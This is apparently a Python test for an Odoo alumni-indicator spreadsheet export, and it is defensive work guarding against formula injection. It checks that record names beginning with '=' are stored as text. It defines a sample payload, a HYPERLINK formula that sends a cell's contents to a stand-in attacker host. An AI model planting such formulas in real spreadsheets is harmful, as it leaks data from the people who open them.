import base64
import io

import openpyxl

from odoo.tests import tagged

from .test_indicator import BdeAlumniIndicatorCase

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


@tagged("post_install", "-at_install", "bde_alumni")
class TestIndicatorExportFormula(BdeAlumniIndicatorCase):
    def test_names_are_written_as_text(self):
        """A lycée or formation named "=..." stays text in the spreadsheet."""
        self.lycee.name = FORMULA
        self.formation.name = "=1+1"
        wizard = self.env["bde.alumni.indicator.export"].create(
            {"company_ids": [(6, 0, self.lycee.ids)]}
        )
        wizard.action_export()
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file))).active
        # the lycée's and the formation's names
        cells = [
            cell for row in sheet.iter_rows(min_row=2) for cell in (row[1], row[4])
        ]
        self.assertIn(FORMULA, [cell.value for cell in cells])
        self.assertTrue(any(str(cell.value).startswith("=1+1") for cell in cells))
        # openpyxl reads a formula as data type "f".
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
